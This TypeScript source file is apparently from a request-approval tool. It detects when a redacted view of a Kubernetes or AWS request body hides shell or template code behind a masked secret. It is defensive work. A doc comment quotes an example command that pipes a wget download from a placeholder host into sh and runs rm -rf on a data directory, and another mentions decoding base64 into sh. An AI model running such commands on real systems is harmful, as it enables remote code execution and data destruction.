// Whether the approver's masked view of a reviewed body hides more than a literal: a span the view
// replaced that holds what a shell or a template reads as code. Shared by the Kubernetes and the
// HTTP/AWS engines (docs/security.md classes 252, 275 and 277). Pure: compares a body with its view, never
// says what a masked span holds (it may be the secret itself).

import { ENCODED_PREFIX } from './detector-names.js';

/**
 * What a masked value in the approver's view may hide: one literal (a password, a key), not what runs.
 * A span the view replaced that holds whitespace, a line break or what a shell or a template reads as
 * code — `$`, a backquote, `;`, `|`, `&`, `<`, `>`, parentheses, braces — could be a command the
 * approver is not shown: `sh -c "DB_PASSWORD=$(wget -qO- http://x/p | sh); rm -rf /data"` was shown as
 * `DB_PASSWORD=[REDACTED:password]` (docs/security.md class 252).
 */
const CODE_IN_SPAN = /[\s$`;|&<>(){}\p{Cc}]/u;
const CODE_CHARS = /[\s$`;|&<>(){}\p{Cc}]/gu;
const ENV_REFERENCE =
  /^(\$\([A-Za-z_][A-Za-z0-9_]*\)|\$\{[A-Za-z_][A-Za-z0-9_]*\}|\$[A-Za-z_][A-Za-z0-9_]*)$/;
/** The redact style's marker (mask-styles.ts redactTag): what the view puts where a span was. */
const MARKER = /\[REDACTED:[A-Za-z0-9_.:-]*\]/g;
/** What the view puts where the detectors found a secret in a base64 or hex run (encoded-secrets.ts). */
const ENCODED_MARKER = `[REDACTED:${ENCODED_PREFIX}`;
/** A base64, base64url or hex run, as encoded-secrets.ts finds them (its shortest is 24 characters). */
const ENCODED_RUN = /(?:\\x|0x)?[A-Za-z0-9+/_-]{16,}={0,2}/g;
const MAX_DEPTH = 256;

function isObject(v: unknown): v is Record<string, unknown> {
  return typeof v === 'object' && v !== null && !Array.isArray(v);
}

/** The characters of `original` the masked string `shown` does not keep, at most (prefix and suffix kept). */
function replacedSpan(original: string, shown: string): string {
  let p = 0;
  while (p < original.length && p < shown.length && original[p] === shown[p]) p++;
  let s = 0;
  while (
    s < original.length - p &&
    s < shown.length - p &&
    original[original.length - 1 - s] === shown[shown.length - 1 - s]
  )
    s++;
  return original.slice(p, original.length - s);
}

/**
 * The first code character in what the encoded runs of `span` decode to. A run the view masks as
 * `[REDACTED:encoded:…]` is text the detectors decoded and found a secret in: user data
 * (`UserData=…`, `echo … | base64 -d | sh`) whose script is hidden with the key it holds.
 */
function codeInDecodedRuns(span: string): string | undefined {
  for (const m of span.matchAll(ENCODED_RUN)) {
    const run = m[0].replace(/^(\\x|0x)/, '');
    const hex = /^[0-9a-fA-F]+$/.test(run) && run.length % 2 === 0;
    const decoded = Buffer.from(run, hex ? 'hex' : 'base64').toString('utf8');
    const c = CODE_IN_SPAN.exec(decoded)?.[0];
    if (c !== undefined) return c;
  }
  return undefined;
}

function parsedJson(text: string): unknown {
  try {
    return JSON.parse(text);
  } catch {
    return undefined;
  }
}

function describe(c: string): string {
  return /\s/.test(c) ? 'whitespace' : /\p{Cc}/u.test(c) ? 'a control character' : `"${c}"`;
}

/** How a comparison reads the values of one kind of body. */
export interface ViewComparison {
  /**
   * A value that is a literal by what the request does with it (a secret store's stored value): shown
   * masked, never compared. Given the value's path (`SecretString`, `spec.template…`).
   */
  readonly literal?: (path: string) => boolean;
  /**
   * A string value held encoded (a ConfigMap's base64 `binaryData`), decoded to compare it with its
   * view decoded; undefined to compare it as it is.
   */
  readonly decode?: (path: string, value: string) => string | undefined;
}

/**
 * The first place where the view `shown` of a JSON value hides more than a literal, as
 * `path, where the masked part holds "$"`; undefined when none does.
 */
export function jsonViewHidesCode(
  original: unknown,
  shown: unknown,
  how: ViewComparison = {},
  path = '',
  depth = 0,
): string | undefined {
  if (depth > MAX_DEPTH) return `${path}: the body nests too deeply to compare`;
  if (how.literal?.(path)) return undefined;
  if (typeof original === 'string') {
    if (shown === original) return undefined;
    // Gone from the view, or replaced by something that is not text: all of it is hidden.
    const view = typeof shown === 'string' ? shown : '';
    // JSON in a string (the last-applied annotation, masked as the object it copies): compared as JSON.
    const o = original.trimStart().startsWith('{') ? parsedJson(original) : undefined;
    const m = o !== undefined ? parsedJson(view) : undefined;
    if (o !== undefined && m !== undefined) return jsonViewHidesCode(o, m, how, path, depth + 1);
    const od = how.decode?.(path, original);
    const md = od !== undefined ? how.decode?.(path, view) : undefined;
    if (od !== undefined && md !== undefined) return stringViewHidesCode(od, md, `${path} (decoded)`);
    return stringViewHidesCode(original, view, path);
  }
  // A structure the view replaced whole hides all of it: compared as its JSON text masked whole.
  const replacedWhole = (): string | undefined =>
    JSON.stringify(shown) === JSON.stringify(original)
      ? undefined
      : stringViewHidesCode(JSON.stringify(original), '', `${path} (replaced whole)`);
  const at = (k: string | number): string =>
    typeof k === 'number' ? `${path}[${k}]` : path === '' ? k : `${path}.${k}`;
  if (Array.isArray(original)) {
    if (!Array.isArray(shown)) return replacedWhole();
    for (let i = 0; i < original.length; i++) {
      const h = jsonViewHidesCode(original[i], shown[i], how, at(i), depth + 1);
      if (h !== undefined) return h;
    }
    return undefined;
  }
  if (isObject(original)) {
    if (!isObject(shown)) return replacedWhole();
    for (const [k, v] of Object.entries(original)) {
      const h = jsonViewHidesCode(v, shown[k], how, at(k), depth + 1);
      if (h !== undefined) return h;
    }
  }
  return undefined;
}

/** Whether the view `shown` of one string value hides more than a literal, as for jsonViewHidesCode. */
export function stringViewHidesCode(original: string, shown: string, path: string): string | undefined {
  if (shown === original) return undefined;
  const span = replacedSpan(original, shown);
  // A reference to an environment variable (`$(DB_PASSWORD)` Kubernetes expands, `${DB_PASSWORD}` a
  // shell does) names a value, which is judged where it is set.
  if (ENV_REFERENCE.test(span)) return undefined;
  // Named by where it is and what it holds, not by its text: it may be the secret itself.
  const c = CODE_IN_SPAN.exec(span)?.[0];
  if (c !== undefined) return `${path}, where the masked part holds ${describe(c)}`;
  const e = replacedSpan(shown, original).includes(ENCODED_MARKER) ? codeInDecodedRuns(span) : undefined;
  return e === undefined
    ? undefined
    : `${path}, where the masked part decodes to text that holds ${describe(e)}`;
}

function codeCounts(s: string): Map<string, number> {
  const n = new Map<string, number>();
  for (const m of s.matchAll(CODE_CHARS)) n.set(m[0], (n.get(m[0]) ?? 0) + 1);
  return n;
}

/**
 * Whether a view of a text that is not compared value by value (XML, a JSON text that does not parse)
 * hides more than a literal. Such a view is the text with spans replaced by markers, the rest kept as
 * it was: the markers' spans together hold what the text holds beyond the kept pieces, whichever way
 * the pieces are placed, so a code character the text holds more often than the kept pieces do is in
 * a masked span. A view whose kept pieces are not the text's, in order, cannot be compared.
 */
export function textViewHidesCode(original: string, shown: string, where: string): string | undefined {
  if (shown === original) return undefined;
  const kept = shown.split(MARKER);
  const uncomparable = `${where}: the view of the body could not be compared with the body`;
  const last = kept[kept.length - 1]!;
  if (kept.length < 2 || !original.startsWith(kept[0]!)) return uncomparable;
  let at = kept[0]!.length;
  for (const piece of kept.slice(1, -1)) {
    const found = original.indexOf(piece, at);
    if (found < 0) return uncomparable;
    at = found + piece.length;
  }
  if (!original.endsWith(last) || original.length - last.length < at) return uncomparable;
  const inText = codeCounts(original);
  const inKept = codeCounts(kept.join(''));
  // An encoded run the view masked (not one of the kept pieces) is compared as what it decodes to.
  if (shown.includes(ENCODED_MARKER)) {
    const keptText = kept.join('\u0000');
    for (const m of original.matchAll(ENCODED_RUN)) {
      if (keptText.includes(m[0])) continue;
      const e = codeInDecodedRuns(m[0]);
      if (e !== undefined) return `${where}, where a masked part decodes to text that holds ${describe(e)}`;
    }
  }
  for (const [c, n] of inText)
    if (n > (inKept.get(c) ?? 0)) return `${where}, where a masked part holds ${describe(c)}`;
  return undefined;
}
